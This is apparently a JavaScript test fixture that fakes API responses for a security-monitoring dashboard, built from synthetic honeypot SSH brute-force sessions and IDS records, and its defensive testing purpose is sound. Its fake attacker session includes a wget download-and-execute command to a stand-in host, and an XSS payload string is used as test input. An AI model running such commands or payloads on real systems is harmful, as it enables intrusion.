// Made-up answers for asking: events by filter, incidents, an address, single events, completion, views. Numbers follow from EVENTS, so that a
// test can count them again.
const END = Date.parse('2025-01-08T21:50:00Z'); // as fake_answers.mjs has it

const SECOND = 1000;
export const ATTACKER = '198.51.100.7';
export const SESSION = 'a1b94c7702de';
export const EVIL = '<img src=x onerror=alert(1)> " or src:0.0.0.0/0';

// The model in force is that of fake_model.mjs; what is not anomalous was scored by one before it.
export const SCORER_NOW = '4f1c90a9'.repeat(4);
export const SCORER_BEFORE = '00001e61'.repeat(4);

const stamp = (ms) => new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$1000Z');
const id = (n) => n.toString(16).padStart(32, '0');

const STEPS = [
  ['cowrie.session.connect', {}], ['cowrie.client.version', { version: 'SSH-2.0-Go', hassh: '5f904648ee8964bef0e8834012e26003' }],
  ...['123456', 'admin', 'password', EVIL, 'toor', 'qwerty'].map((password) => ['cowrie.login.failed', { username: 'root', password }]),
  ['cowrie.login.success', { username: 'root', password: 'P@ssw0rd' }], ['cowrie.command.input', { input: 'uname -a' }],
  ['cowrie.command.input', { input: 'cd /tmp; wget http://203.0.113.80/a; chmod +x a; ./a' }],
  ['cowrie.session.file_download', { url: 'http://203.0.113.80/a', shasum: '9f2c41e0'.repeat(8) }], ['cowrie.session.closed', { duration: '547.2' }],
];

function event(n, change) {
  const { attributes = {}, ...rest } = change;
  return {
    event_id: id(20_000 + n), sequence: 10_000 - n, event_time: stamp(END - (n + 1) * 7 * SECOND), dataset: 'cowrie', source: '/logs/cowrie.json', source_ip: ATTACKER, source_port: 51_544, destination_ip: '192.0.2.10',
    destination_port: 22, protocol: 'tcp', application_protocol: 'SSH', duration: null, bytes_sent: 0, bytes_received: 0, packets_sent: 0, packets_received: 0, direction: null, tcp_flags: null, payload: null,
    missing: ['duration', 'bytes_sent', 'bytes_received', 'packets_sent', 'packets_received', 'direction', 'tcp_flags', 'payload'],
    label: 'Attack', attack_type: 'brute_force', anomaly_score: 0.9995, p_value: 5e-4, features_used: 9, features_total: 26, partial: false, is_anomaly: true, severity: 'high', late: false, by: 'both', finding: null,
    alert_id: id(1), country: 'NL', attributes, raw: JSON.stringify({ ...attributes, src_ip: rest.source_ip ?? ATTACKER, session: attributes.session ?? null }), ...rest,
  };
}

const BACKGROUND = [
  { source_ip: '203.0.113.44', destination_ip: '192.0.2.12', destination_port: 3389, application_protocol: 'RDP', attack_type: 'brute_force', severity: 'medium', country: 'VN', dataset: 'suricata', source: '/logs/eve.json', attributes: { event_type: 'alert', signature: 'made up: rdp guessing' } },
  { source_ip: '192.0.2.34', destination_ip: '203.0.113.80', destination_port: 443, application_protocol: 'TLS', attack_type: null, severity: 'none', by: null, anomaly_score: 0.31, p_value: 0.69, label: null, alert_id: null, country: null, dataset: 'suricata', source: '/logs/eve.json', duration: 12.5, bytes_sent: 4200, bytes_received: 52_000, packets_sent: 30, packets_received: 44, direction: 'outbound', missing: ['label', 'attack_type', 'payload'], attributes: { event_type: 'flow', flow_id: '77' } },
  { source_ip: '203.0.113.129', destination_ip: '192.0.2.11', destination_port: 445, application_protocol: 'SMB', attack_type: 'scan', severity: 'low', country: 'BR', dataset: 'dionaea', source: '/logs/dionaea.json', attributes: { eventid: 'connection' } },
];

// The attacker's session lies among them, oldest last.
export const EVENTS = [...Array(240).keys()].map((n) => {
  const at = n - 20;
  if (at >= 0 && at < STEPS.length) {
    const [eventid, attributes] = STEPS[STEPS.length - 1 - at];
    return event(n, { attributes: { eventid, session: SESSION, ...attributes } });
  }
  const kind = BACKGROUND[n % BACKGROUND.length];
  return event(n, { alert_id: n % 3 === 0 ? id(4) : kind.by === null ? null : id(3), ...kind, source_port: 40_000 + n });
});

const FIELDS = {
  src: (e) => e.source_ip, dst: (e) => e.destination_ip, port: (e) => e.destination_port, type: (e) => e.attack_type, user: (e) => e.attributes.username, password: (e) => e.attributes.password, command: (e) => e.attributes.input,
  url: (e) => e.attributes.url, sha256: (e) => e.attributes.shasum, client: (e) => e.attributes.version, signature: (e) => e.attributes.signature, session: (e) => e.attributes.session, dataset: (e) => e.dataset, source: (e) => e.source,
  app: (e) => e.application_protocol, proto: (e) => e.protocol, severity: (e) => e.severity, alert: (e) => e.alert_id, country: (e) => e.country, kind: (e) => (e.attributes.eventid ?? e.attributes.event_type).replace(/^cowrie\./, ''), hassh: (e) => e.attributes.hassh, by: (e) => e.by, label: (e) => e.label,
};

// Enough of the language for tests: field:value, quotes, negation, free words.
export function lex(text) {
  return [...text.matchAll(/(-?)(?:([a-z0-9_]+):)?(?:"((?:\\.|[^"\\])*)"|([^\s"]+))/g)].map((m) => ({ at: m.index, length: m[0].length, not: m[1] === '-', field: m[2] ?? null, value: m[3] === undefined ? m[4] : m[3].replace(/\\(.)/g, '$1') }));
}

export function faultOf(text) {
  for (const term of lex(text ?? '')) {
    if (term.field === 'port' && term.value !== '*' && !/^\d+$/.test(term.value)) return { offset: Buffer.byteLength(text.slice(0, term.at)), length: term.length, expected: 'a port: 0 to 65535' };
    if (term.field !== null && term.field !== 'ip' && FIELDS[term.field] === undefined) return { offset: Buffer.byteLength(text.slice(0, term.at)), length: term.field.length, expected: 'a field: src, dst, port, type, …' };
  }
  return null;
}

function holds(term, e) {
  if (term.field === null) return e.raw.toLowerCase().includes(term.value.toLowerCase());
  const values = term.field === 'ip' ? [e.source_ip, e.destination_ip] : [FIELDS[term.field](e)];
  return values.some((value) => value !== null && value !== undefined && (term.value === '*' || String(value).toLowerCase() === term.value.toLowerCase()));
}

export function matching(query) {
  const terms = lex(query.get('filter') ?? '');
  const [from, to] = [query.has('from') ? Date.parse(query.get('from')) : -Infinity, query.has('to') ? Date.parse(query.get('to')) : Infinity];
  return EVENTS.filter((e) => terms.every((term) => holds(term, e) !== term.not) && Date.parse(e.event_time) >= from && Date.parse(e.event_time) < to);
}

function tally(list) {
  const of = (name, value) => list.filter((e) => e[name] === value).length;
  const anomalous = list.filter((e) => e.by !== null);
  return {
    events: list.length, anomalous: anomalous.length, by_label: of('by', 'label'), by_score: of('by', 'score'), by_both: of('by', 'both'), high: of('severity', 'high'), medium: of('severity', 'medium'), low: of('severity', 'low'),
    mean_score: anomalous.length === 0 ? null : 0.98, mean_score_all: list.length === 0 ? null : 0.7, max_score: anomalous.length === 0 ? null : 0.9995,
  };
}

export function seriesOf(query, first, to) {
  const width = 60 * SECOND;
  const list = matching(query);
  const buckets = [...Array(Math.ceil((to - first) / width)).keys()].map((i) => {
    const [from, until] = [first + i * width, first + (i + 1) * width];
    return { time: stamp(from), ...tally(list.filter((e) => Date.parse(e.event_time) >= from && Date.parse(e.event_time) < until)), burst: false, observed: true };
  });
  return { bucket_seconds: 60, buckets, unobserved: [] };
}

export function top(list, field, limit = 10) {
  const groups = new Map();
  for (const e of list) {
    const key = FIELDS[field]?.(e);
    const name = key === undefined || key === null ? null : String(key);
    groups.set(name, [...(groups.get(name) ?? []), e]);
  }
  const rows = [...groups].map(([key, of]) => ({ key, first: of.at(-1).event_time, last: of[0].event_time, ...tally(of) })).sort((a, b) => b.events - a.events);
  return { field, distinct: rows.filter((row) => row.key !== null).length, sum: tally(list), rows: rows.slice(0, limit) };
}

const STORIES = {
  [ATTACKER]: `${ATTACKER} (NL) tried 7 passwords on ssh over 9 minutes, got in as root, ran 2 commands, fetched 1 file`,
  '203.0.113.44': '203.0.113.44 (VN) failed to log in over remote desktop', '203.0.113.129': '203.0.113.129 (BR) knocked on our addresses for file sharing',
};

export function incidents(query) {
  const list = matching(query).filter((e) => e.alert_id !== null && e.by !== null);
  const order = ['high', 'medium', 'low', 'none'];
  return Object.keys(STORIES).flatMap((source) => {
    const of = list.filter((e) => e.source_ip === source);
    if (of.length === 0) return [];
    const { by_label, by_score, by_both } = tally(of);
    const alerts = new Set(of.map((e) => e.alert_id)).size;
    return [{
      incident_id: of[0].alert_id, source_ip: source, country: of[0].country, city: source === ATTACKER ? 'Amsterdam' : null, severity: of[0].severity, score: 0.9995, first_time: of.at(-1).event_time, last_time: of[0].event_time,
      events: of.length, by_label, by_score, by_both, alerts, targets: new Set(of.map((e) => e.destination_ip)).size, ports: top(of, 'port', 5).rows.map((row) => ({ port: Number(row.key), events: row.events })),
      attack_types: top(of, 'type').rows.map((row) => ({ attack_type: row.key, events: row.events })), datasets: [...new Set(of.map((e) => e.dataset))], story: STORIES[source],
      top_alert: { alert_id: of[0].alert_id, reason: 'This kind of event is rare here.', reason_key: 'kind_rarity' },
    }];
  }).sort((a, b) => order.indexOf(a.severity) - order.indexOf(b.severity));
}

function brief(e) {
  const { event_id, event_time, destination_ip, destination_port, severity, anomaly_score, attack_type, alert_id } = e;
  return { event_id, event_time, destination_ip, destination_port, kind: FIELDS.kind(e) ?? null, severity, anomaly_score, attack_type, alert_id };
}

const FEATURES = [
  { feature: 'attempts_600s', words: 'log-in attempts in ten minutes', unit: '', value: 431, low: 1, median: 3, high: 14, share: 0.41 },
  { feature: 'login_failed_ratio', words: 'share of log-ins that failed', unit: '', value: 0.998, low: 0.02, median: 0.2, high: 0.5, share: 0.27 },
  { feature: 'src_ports_1h', words: 'distinct ports asked within an hour', unit: '', value: 1, low: 1, median: 2, high: 6, share: 0.03 },
];

// head: sequence and range, as the other answers have them; more: what is still to be answered elsewhere (null: not here)
export function desk(path, query, head, alertOf) {
  const one = /^\/events\/([0-9a-f]{32})$/.exec(path);
  if (one !== null) {
    const e = EVENTS.find((each) => each.event_id === one[1]);
    if (e === undefined) return null;
    const same = EVENTS.filter((other) => other.source_ip === e.source_ip);
    const at = same.indexOf(e);
    return { sequence: head.sequence, event: { ...e, scored_by: e.anomaly_score === null ? null : e.by === null ? SCORER_BEFORE : SCORER_NOW, features: e.by === null ? [] : FEATURES }, before: same.slice(at + 1, at + 11).map(brief), after: same.slice(Math.max(0, at - 10), at).map(brief) };
  }
  const known = /^\/incidents\/([0-9a-f]{32})$/.exec(path);
  if (known !== null) {
    const incident = incidents(new URLSearchParams()).find((each) => each.incident_id === known[1]);
    return incident === undefined ? null : { sequence: head.sequence, incident, alerts: [0, 7].slice(0, incident.alerts).map(alertOf) };
  }
  const list = matching(query);
  switch (path) {
    case '/events': {
      const ordered = query.get('order') === 'oldest' ? [...list].reverse() : list;
      const [cursor, limit] = [query.get('cursor'), Number(query.get('limit') ?? 50)];
      const rest = cursor === null ? ordered : ordered.slice(ordered.findIndex((e) => (query.get('order') === 'oldest' ? e.sequence > cursor : e.sequence < cursor)) >>> 0);
      const shown = rest.slice(0, limit);
      const exact = lex(query.get('filter') ?? '').every((term) => term.field !== null);
      return { ...head, events: shown, next_cursor: shown.length < rest.length ? String(shown.at(-1).sequence) : null, complete: true, count: { events: exact ? list.length : Math.min(list.length, 5), exact } };
    }
    case '/count':
      return { ...head, count: { events: list.length, exact: true } };
    case '/top':
      return { ...head, complete: true, exact: true, tops: (query.get('fields') ?? '').split(',').map((field) => top(list, field, Number(query.get('limit') ?? 10))) };
    case '/storage':
      return {
        sequence: head.sequence, bytes: 1_200_000_000, spare_bytes: 0, free_bytes: 52_000_000_000, recent_events: 400_000, recent_events_max: 1_000_000, oldest_event: '2024-10-11T00:00:00.000000Z',
        limits: { keep_seconds: 7_776_000, keep_bytes: null, min_free_bytes: 1_073_741_824 }, dropped_events: 12_500, dropped_until: '2024-10-10T22:00:00.000000Z', index: { events: 1_900_000, behind: 2000, bytes: 110_000_000 },
      };
    case '/complete': {
      const text = query.get('text') ?? '';
      const typed = /[^\s]*$/.exec(Buffer.from(text).subarray(0, Number(query.get('at'))).toString())[0];
      const to = Number(query.get('at'));
      const [field, value] = typed.includes(':') ? typed.split(':') : [null, null];
      const items = field === null ? [['src:', 'who began it: an address or a network'], ['severity:', 'none, low, medium or high; < and > compare'], ['session:', 'what links records of one subject'], ['score', 'anomaly score, 0 to 1']]
        .filter(([name]) => name.startsWith(typed)).map(([name, words]) => ({ text: name, words, events: null }))
        : top(EVENTS, field).rows.filter((row) => row.key !== null && row.key.startsWith(value)).map((row) => ({ text: row.key, words: '', events: row.events }));
      return { from: to - Buffer.byteLength(value ?? typed), to, items: items.slice(0, 12) };
    }
    case '/incidents': {
      const all = incidents(query);
      const of = (severity) => all.filter((each) => each.severity === severity).length;
      return { ...head, complete: true, exact: true, counts: { total: all.length, high: of('high'), medium: of('medium'), low: of('low'), none: of('none') }, incidents: all, next_cursor: null };
    }
    case '/address': {
      const ip = query.get('ip');
      const own = list.filter((e) => e.source_ip === ip);
      const at = list.filter((e) => e.destination_ip === ip);
      const both = [...own, ...at];
      const sessions = [...new Set(own.map((e) => e.attributes.session).filter((s) => s !== undefined))].map((session) => {
        const of = own.filter((e) => e.attributes.session === session);
        return { session, source: of[0].source, first_time: of.at(-1).event_time, last_time: of[0].event_time, events: of.length };
      });
      const placed = own[0]?.country ?? null;
      return {
        ...head, complete: true, exact: true, address: ip, place: { country: placed, city: placed === 'NL' ? 'Amsterdam' : null, latitude: null, longitude: null, geo: placed === null ? 'private' : 'found' }, private: placed === null,
        first_seen: both.at(-1)?.event_time ?? null, last_seen: both[0]?.event_time ?? null, as_source: tally(own), as_target: tally(at),
        tops: ['source', 'dst', 'port', 'app', 'type', 'user', 'password', 'command', 'url', 'sha256', 'hassh', 'client', 'signature'].map((field) => top(both, field)), sessions,
      };
    }
    default:
      return undefined; // not of the desk
  }
}
